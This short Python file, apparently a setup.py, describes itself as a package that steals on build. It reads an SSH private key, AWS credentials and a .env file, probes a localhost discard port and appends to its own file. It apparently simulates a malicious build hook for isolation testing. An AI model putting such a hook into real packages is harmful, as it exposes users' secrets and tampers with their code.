# A package that steals what it can when anybody so much as builds it.
import os
import urllib.request

for path in ("~/.ssh/id_ed25519", "~/.aws/credentials", "/work/repo/.env"):
    try:
        loot = open(os.path.expanduser(path)).read()
    except OSError as e:
        print("setup.py:", e)
        continue
    print("setup.py: has", path, len(loot))
try:
    urllib.request.urlopen("http://127.0.0.1:9/", timeout=2)
except OSError as e:
    print("setup.py:", e)
try:
    open("/work/repo/setup.py", "a").write("# and again\n")
except OSError as e:
    print("setup.py:", e)
